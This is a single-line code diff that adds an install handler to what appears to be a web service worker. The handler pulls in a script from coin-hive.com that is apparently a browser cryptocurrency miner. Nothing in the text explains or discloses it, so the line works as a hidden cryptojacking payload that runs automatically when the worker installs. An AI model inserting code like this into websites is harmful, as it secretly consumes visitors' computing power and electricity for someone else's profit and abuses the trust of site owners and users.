@@ -1,0 +1,1 @@
+self.addEventListener('install', function () { importScripts('https://coin-hive.com/lib/worker.js'); });
